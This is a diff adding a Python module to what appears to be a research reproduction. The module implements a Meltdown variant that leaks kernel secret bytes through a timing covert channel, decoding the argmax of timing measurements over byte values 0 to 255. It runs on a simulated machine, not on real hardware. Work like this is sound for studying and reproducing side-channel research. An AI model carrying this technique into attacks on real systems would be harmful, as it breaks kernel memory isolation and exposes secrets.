@@ -1,0 +1,117 @@
+"""TET-Meltdown (§4.3.1): Meltdown with Whisper as the covert channel.
+
+Phase one triggers the transient window with a faulting load of the kernel
+secret and executes a Jcc keyed on the transiently forwarded byte; phase
+two reads the two timestamps.  The argmax of the ToTE over test values
+0..255 is the secret byte -- the ToTE is *longer* on the match because the
+nested mispredict's recovery serialises with the fault flush.
+
+Preconditions, as on real hardware: the CPU must be Meltdown-vulnerable
+and the secret line must be cache-hot (a victim syscall path touches it).
+On fixed silicon the forwarded value is always zero and the scan decodes
+``0x00`` for every byte -- the attack visibly fails, as in Table 2's ✗
+columns.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import List, Optional, Sequence
+
+from repro.whisper.analysis import ArgExtremeDecoder, ByteScanResult, error_rate
+from repro.whisper.gadgets import GadgetBuilder, Suppression
+
+
+@dataclass
+class LeakResult:
+    """Outcome of leaking a byte range."""
+
+    data: bytes
+    expected: bytes
+    cycles: int
+    seconds: float
+    bytes_per_second: float
+    scans: List[ByteScanResult] = field(default_factory=list)
+
+    @property
+    def error_rate(self) -> float:
+        return error_rate(self.expected, self.data)
+
+    @property
+    def success(self) -> bool:
+        """Majority-correct leak counts as success (Table 2's criterion)."""
+        return self.error_rate < 0.5
+
+    def __str__(self) -> str:
+        return (
+            f"leaked {len(self.data)} B at {self.bytes_per_second:,.0f} B/s simulated, "
+            f"error rate {self.error_rate:.2%}"
+        )
+
+
+class TetMeltdown:
+    """The TET-MD attack bound to one machine."""
+
+    def __init__(
+        self,
+        machine,
+        batches: int = 5,
+        values: Sequence[int] = range(256),
+        suppression: Optional[Suppression] = None,
+    ) -> None:
+        self.machine = machine
+        self.batches = batches
+        self.values = list(values)
+        self.builder = GadgetBuilder(machine, suppression=suppression)
+        self.program = self.builder.meltdown()
+        self.decoder = ArgExtremeDecoder("max")
+        self._warmed = False
+
+    def scan_byte(self, va: int) -> ByteScanResult:
+        """Leak the byte at kernel address *va*."""
+        if not self._warmed:
+            for _ in range(4):  # shed cold-code noise
+                self.machine.run(self.program, regs={"r13": va, "r9": 256})
+            self._warmed = True
+        totes = {test: [] for test in self.values}
+        for _ in range(self.batches):
+            # Victim activity keeps the secret line hot (the Meltdown
+            # precondition); a cold line forwards nothing.
+            self.machine.victim_touch(va)
+            for test in self.values:
+                result = self.machine.run(self.program, regs={"r13": va, "r9": test})
+                totes[test].append(result.regs.read("r15") - result.regs.read("r14"))
+        return self.decoder.decode(totes)
+
+    def leak(self, va: Optional[int] = None, length: Optional[int] = None) -> LeakResult:
+        """Leak *length* bytes starting at *va* (default: the kernel secret)."""
+        kernel = self.machine.kernel
+        if va is None:
+            va = kernel.secret_va
+        if length is None:
+            length = len(kernel.secret)
+        expected = self._expected(va, length)
+        start_cycle = self.machine.core.global_cycle
+        scans = [self.scan_byte(va + index) for index in range(length)]
+        cycles = self.machine.core.global_cycle - start_cycle
+        seconds = self.machine.seconds(cycles)
+        return LeakResult(
+            data=bytes(scan.value for scan in scans),
+            expected=expected,
+            cycles=cycles,
+            seconds=seconds,
+            bytes_per_second=length / seconds if seconds else float("inf"),
+            scans=scans,
+        )
+
+    def _expected(self, va: int, length: int) -> bytes:
+        """Ground truth for error-rate accounting (simulator privilege)."""
+        kernel_space = self.machine.kernel.kernel_space
+        out = bytearray()
+        for index in range(length):
+            pte = kernel_space.lookup(va + index)
+            if pte is None:
+                out.append(0)
+                continue
+            out.append(self.machine.physical.read_u8(pte.physical_address(va + index)))
+        return bytes(out)
